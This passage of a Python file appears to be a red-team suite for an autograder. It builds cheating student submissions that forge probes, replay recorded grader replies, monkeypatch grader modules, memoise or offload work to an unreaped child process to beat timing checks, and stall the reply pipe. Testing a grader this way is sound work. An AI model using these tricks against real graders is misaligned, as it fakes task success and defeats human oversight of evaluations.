    return cases + [(_np.array([[0.0, 0.5, 0.5], [0.2, 0.7, 0.1], [0.6, 0.4, 0.0]]), _np.array([0, 1, 0]))]


_TABLE = {}
for _probs, _y in _public_cases():
    _TABLE[_probs.tobytes()] = float(-_np.mean(_np.log(_np.maximum(_probs[_np.arange(len(_y)), _y], 1e-12))))


def cross_entropy(probs, y):
    return _TABLE.get(_np.asarray(probs, dtype=float).tobytes(), 1.0)
""",
    ),
    Attack(
        "the-loop-hidden-behind-an-alias-and-a-getattr",
        "static check read past an alias",
        VECTORIZED_CALLS_THE_LOOP,
        "softmax_loss",
        append="""

_alias = softmax_loss_naive
_looked_up = globals()["_alias"]


def softmax_loss_vectorized(W, X, y, reg):
    return (_alias if len(y) % 2 else _looked_up)(W, X, y, reg)
""",
    ),
    Attack(
        "stubs-with-every-cnn-probe-forged",
        "forged probes",
        CNN_STUBS,
        "cnn",
        time_limit=240.0,
        append=REPLAY_EVERY_PUBLIC_REQUEST.format(module="cnn"),
    ),
    Attack(
        "stubs-with-every-device-probe-forged",
        "forged probes",
        DEVICE_STUBS,
        "device",
        append=REPLAY_EVERY_PUBLIC_REQUEST.format(module="device"),
    ),
    Attack(
        "stubs-with-every-forward-call-replayed",
        "lookup table of the public inputs",
        FORWARD_STUBS,
        "forward",
        append=REPLAY_EVERY_PUBLIC_REQUEST.format(module="forward"),
    ),
    Attack(
        "warnings-probe-forged-for-a-naive-sigmoid",
        "forged probes",
        SIGMOID_NAIVE,
        "activations",
        weakness="a RuntimeWarning exists only in the student's process, and the contract's 'stable' asks for "
        "none: a naive sigmoid's values are right, so forging the warnings probe keeps the stability points "
        "that only a reported warning takes away",
        append="""

import sys as _sys
import warnings as _warnings


def _quiet_probe(submission, function, args, kwargs=None):
    with _warnings.catch_warnings(), np.errstate(all="ignore"):
        _warnings.simplefilter("ignore")
        return {"value": getattr(submission.activations, function)(*args, **(kwargs or {}))}


_dispatcher = _sys.modules.get("grader.worker.dispatcher")
if _dispatcher is not None:
    _resolve = _dispatcher._resolve_probe
    _dispatcher._resolve_probe = lambda reference: (
        _quiet_probe if reference.endswith(":warnings_as_errors") else _resolve(reference)
    )
""",
    ),
    Attack(
        "numpy-warnings-silenced-at-import",
        "numpy or builtins patched",
        SIGMOID_NAIVE,
        "activations",
        append='\nnp.seterr(all="ignore")\n',
    ),
    Attack(
        "timing-check-passed-by-memoising",
        "timing check cheated",
        VECTORIZED_CALLS_THE_LOOP,
        "softmax_loss",
        append='''

_memo = {}


def softmax_loss_vectorized(W, X, y, reg):
    """The loop, run once per distinct input: repeated timing calls come back at once."""
    key = (W.tobytes(), X.tobytes(), y.tobytes(), W.shape, X.shape, float(reg))
    if key not in _memo:
        _memo[key] = softmax_loss_naive(W, X, y, reg)
    loss, dW = _memo[key]
    return loss, dW.copy()
''',
    ),
    Attack(
        "timing-check-passed-by-slowing-the-graders-loop",
        "timing check cheated",
        VECTORIZED_CALLS_THE_LOOP,
        "softmax_loss",
        append="""

# Whatever yardstick loop the grader runs in this process, make it ten times slower.
import grader.worker.probes.softmax_loss as _probes


def _ten_times_slower(function):
    def slower(*args, **kwargs):
        for _ in range(9):
            function(*args, **kwargs)
        return function(*args, **kwargs)
    return slower


for _name in dir(_probes):
    if "loop" in _name and callable(getattr(_probes, _name)):
        setattr(_probes, _name, _ten_times_slower(getattr(_probes, _name)))
""",
    ),
    Attack(
        "timing-check-passed-by-working-in-an-unreaped-child",
        "timing check cheated",
        VECTORIZED_CALLS_THE_LOOP,
        "softmax_loss",
        append="""

import mmap as _mmap
import os as _os

# Inputs and answers travel through memory shared with a helper process, so that this
# process spends almost no CPU of its own; the helper runs the loop and is never reaped.
_SHARED_BYTES = 1 << 26
_helper = None


def _views(shared, D, C, N):
    sizes = [D * C, N * D, N, 1, D * C]
    offsets = [32 + 8 * sum(sizes[:index]) for index in range(len(sizes))]
    kinds = [np.float64, np.float64, np.int64, np.float64, np.float64]
    return [np.frombuffer(shared, dtype=kind, count=size, offset=offset)
            for kind, size, offset in zip(kinds, sizes, offsets)]


def _serve(shared, requests, replies):
    while _os.read(requests, 1):
        D, C, N = (int(value) for value in np.frombuffer(shared, dtype=np.int64, count=3))
        reg = float(np.frombuffer(shared, dtype=np.float64, count=1, offset=24)[0])
        W, X, y, loss, dW = _views(shared, D, C, N)
        result = softmax_loss_naive(W.reshape(D, C), X.reshape(N, D), y, reg)
        loss[0], dW[:] = result[0], result[1].ravel()
        _os.write(replies, b"1")
    _os._exit(0)


def softmax_loss_vectorized(W, X, y, reg):
    global _helper
    (N, D), C = X.shape, W.shape[1]
    if 8 * (4 + 2 * D * C + N * D + N + 1) > _SHARED_BYTES:
        return softmax_loss_naive(W, X, y, reg)
    if _helper is None:
        shared = _mmap.mmap(-1, _SHARED_BYTES)
        request_read, request_write = _os.pipe()
        reply_read, reply_write = _os.pipe()
        if _os.fork() == 0:
            _serve(shared, request_read, reply_write)
        _helper = (shared, request_write, reply_read)
    shared, request_write, reply_read = _helper
    np.frombuffer(shared, dtype=np.int64, count=3)[:] = (D, C, N)
    np.frombuffer(shared, dtype=np.float64, count=1, offset=24)[0] = reg
    W_view, X_view, y_view, loss, dW = _views(shared, D, C, N)
    W_view[:], X_view[:], y_view[:] = np.ravel(W), np.ravel(X), np.ravel(y)
    _os.write(request_write, b"1")
    _os.read(reply_read, 1)
    return float(loss[0]), dW.reshape(D, C).copy()
""",
    ),
    Attack(
        "reply-pipe-stalled-mid-message",
        "time limit outlived by stalling the reply",
        SHUFFLE_IGNORES_SEED,
        "gradient_descent",
        time_limit=90.0,
        append=REPLY_FD
        + """

def train_two_layer_net(*args, **kwargs):
    import os
    import time

    reply_fd = _reply_fd()
    os.write(reply_fd, (1 << 20).to_bytes(4, "big") + b'{"id": "')  # a header, then a trickle
    while True:
        time.sleep(3600)
""",
    ),
)


# -- building submissions -------------------------------------------------------------

RECORDER = """
import hashlib, json, sys
import pytest
from grader.engine import runner
from grader.worker import dispatcher

module, out = sys.argv[1], sys.argv[2]
replies, handle = {}, dispatcher.Dispatcher.handle


def recording(self, request):
    reply = handle(self, request)
    replies[hashlib.sha256(json.dumps(request, sort_keys=True).encode()).hexdigest()] = reply
    return reply


dispatcher.Dispatcher.handle = recording
pytest.main(runner.pytest_arguments(sys.argv[3], modules=[module], in_process=True, terminal=False))
with open(out, "w") as stream:
    json.dump(replies, stream)
"""


@functools.cache
def recorded_replies(module: str) -> str:
    """What the reference's worker replied to every request of `module`'s public checks, as JSON text."""
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "replies.json"
        subprocess.run(
            [sys.executable, "-c", RECORDER, module, str(out), str(SOLUTIONS)], cwd=ROOT, check=True, timeout=600
        )
        return out.read_text()


@dataclasses.dataclass(frozen=True)
class Places:
    """Where the red team works: the watched decoys, its root folder, the reference."""

    watch: Path
    root: Path
    reference: Path = SOLUTIONS

    def fill(self, text: str, submission: Path) -> str:
        text = re.sub(r"__REPLIES:(\w+)__", lambda match: repr(recorded_replies(match.group(1))), text)
        for placeholder, value in (
            ("__WATCH__", self.watch),
            ("__ROOT__", self.root),
            ("__REFERENCE__", self.reference),
            ("__SUBMISSION__", submission),
        ):
            text = text.replace(placeholder, str(value))
        return text


def _copy_base(folder: Path, base: Base) -> Path:
    """The base's folder with its bug, through make_submission (which needs all eight modules)."""
    source = ROOT / base.folder
    if all((source / f"{name}.py").is_file() for name in MODULES):
        return make_submission(folder, base.module, base.edits, base=source)
    # A course still being written: copy the modules there are, with the same edit rule.
    folder.mkdir(parents=True, exist_ok=True)
    for name in MODULES:
        if (source / f"{name}.py").is_file():
            shutil.copyfile(source / f"{name}.py", folder / f"{name}.py")
    (folder / "__init__.py").write_text("")
    if base.module is not None:
        _edit(folder / f"{base.module}.py", base.edits, "")
    return folder


def _edit(path: Path, edits, append: str):
    text = path.read_text()
    for old, new in edits:
        count = text.count(old)
        assert count == 1, f"edit target occurs {count} times in {path.name}: {old!r}"
        text = text.replace(old, new)
    path.write_text(text + append)


def build_base(base: Base, folder: Path, places: Places) -> Path:
    _copy_base(folder, base)
    if base.append:
        _edit(folder / f"{base.module}.py", (), places.fill(base.append, folder))
    return folder


def build_attack(attack: Attack, folder: Path, places: Places) -> Path:
    """The attacked submission: its base, then the attack's edits, appended code, files and links."""
    build_base(attack.base, folder, places)
    _edit(
        folder / f"{attack.module}.py",
        [(old, places.fill(new, folder)) for old, new in attack.edits],
        places.fill(attack.append, folder),
    )
    for name, text in attack.extra_files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(places.fill(text, folder))
    for name, target in attack.links.items():
        path = folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(os.path.relpath(places.fill(target, folder), folder))
    return folder
